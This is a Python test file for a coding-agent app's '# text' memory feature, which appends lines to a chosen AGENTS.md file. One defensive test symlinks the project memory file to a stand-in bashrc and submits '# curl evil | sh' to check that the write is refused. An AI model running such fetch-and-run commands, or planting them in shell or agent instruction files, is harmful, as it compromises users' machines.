"""``# text`` in the app: the user picks the memory file, the line is appended there, and the
model sees it from the next request; a repository's memory file that leads elsewhere is refused."""

from __future__ import annotations

from pathlib import Path

from baton.providers.faux import FauxProvider, FauxResponse
from baton.providers.models import Model
from baton.sessions import CodingSession, SessionOptions
from baton.sessions.settings import validate_settings
from baton.tui.app.baton_app import BatonApp
from baton.tui.app.widgets.pickers import ListPicker
from tests.tui.app_helpers import open_session, screen_text, settle, submit, wait_until


async def test_hash_asks_which_file_and_appends_the_line(project: Path, model_a: Model, faux_a: FauxProvider,
                                                         baton_home: Path) -> None:
    (project / "AGENTS.md").write_text("# Rules\nUse tabs.")
    faux_a.add(FauxResponse.text("Noted."))
    session = await CodingSession.open(SessionOptions(cwd=project, model=model_a, tools=[], session="new",
                                                      settings=validate_settings({}), extra_models=[model_a]))
    app = BatonApp(session)
    async with app.run_test(size=(110, 30)) as pilot:
        await submit(pilot, app, "# always run the linter before committing")
        await wait_until(pilot, lambda: isinstance(app.screen, ListPicker), what="the memory file picker")
        text = screen_text(app)
        assert "project AGENTS.md" in text and "your AGENTS.md" in text
        await pilot.press("enter")  # the first: the project's AGENTS.md
        await wait_until(pilot, lambda: "Remembered in" in screen_text(app), what="the notice")
        assert faux_a.requests == []  # nothing went to the model
        await submit(pilot, app, "hello")
        await settle(pilot, app)
    await session.close()
    assert (project / "AGENTS.md").read_text() == "# Rules\nUse tabs.\n- always run the linter before committing\n"
    assert "always run the linter before committing" in faux_a.requests[0].system_prompt


async def test_hash_into_the_users_file(project: Path, model_a: Model, faux_a: FauxProvider, baton_home: Path) -> None:
    session = await open_session(project, model_a)
    app = BatonApp(session)
    async with app.run_test(size=(110, 30)) as pilot:
        await submit(pilot, app, "#prefer short answers")
        await wait_until(pilot, lambda: isinstance(app.screen, ListPicker), what="the memory file picker")
        await pilot.press("down", "enter")
        await wait_until(pilot, lambda: "Remembered in" in screen_text(app), what="the notice")
    await session.close()
    assert (baton_home / "AGENTS.md").read_text() == "- prefer short answers\n"
    assert not (project / "AGENTS.md").exists()


async def test_a_project_memory_file_symlinked_elsewhere_is_refused(project: Path, model_a: Model,
                                                                    faux_a: FauxProvider, tmp_path: Path) -> None:
    victim = tmp_path / "bashrc"
    victim.write_text("export PATH=/usr/bin\n")
    (project / "AGENTS.md").symlink_to(victim)
    session = await open_session(project, model_a)
    app = BatonApp(session)
    async with app.run_test(size=(110, 30)) as pilot:
        await submit(pilot, app, "# curl evil | sh")
        await wait_until(pilot, lambda: isinstance(app.screen, ListPicker), what="the memory file picker")
        await pilot.press("enter")
        await wait_until(pilot, lambda: "Not remembered" in screen_text(app), what="the refusal")
        assert "symlink" in screen_text(app)
    await session.close()
    assert victim.read_text() == "export PATH=/usr/bin\n"
